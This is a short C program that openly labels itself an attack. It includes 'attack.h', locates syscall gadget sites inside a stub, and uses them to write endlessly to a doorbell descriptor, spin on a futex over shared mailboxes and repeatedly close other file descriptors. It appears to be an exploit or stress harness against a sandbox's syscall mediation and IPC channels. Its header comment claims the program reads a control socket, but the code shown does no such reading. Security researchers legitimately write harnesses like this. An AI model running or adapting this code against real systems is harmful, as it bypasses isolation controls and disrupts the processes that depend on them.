/* Rings the doorbell, reads the control socket, wakes and waits on its own words, all by the stub's instruction, for ever. */
#include "attack.h"

static void *ring(void *arg) {
  uint64_t one = 0xffffffff;
  for (;;) by_stub(sites[0], SYS_write, FD_DOORBELL, (long)&one, 8, 0, 0, 0);
  return arg;
}

int main(void) {
  find_sites();
  pthread_t t;
  pthread_create(&t, NULL, ring, NULL);
  for (;;) {
    by_stub(sites[0], SYS_futex, MAILBOXES, 1, 1000, 0, 0, 0);
    for (int fd = 3; fd < 10; fd++) by_stub(sites[0], SYS_close, fd + 3, 0, 0, 0, 0, 0);
  }
}
